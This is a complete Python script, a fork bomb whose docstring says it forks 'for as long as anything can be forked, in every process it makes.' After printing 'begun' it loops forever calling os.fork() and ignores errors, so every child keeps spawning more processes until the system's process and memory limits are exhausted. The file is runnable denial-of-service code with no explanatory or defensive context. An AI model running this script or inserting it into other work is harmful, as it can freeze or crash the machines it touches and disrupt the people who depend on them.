"""Forks for as long as anything can be forked, in every process it makes."""
import os

print("begun", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
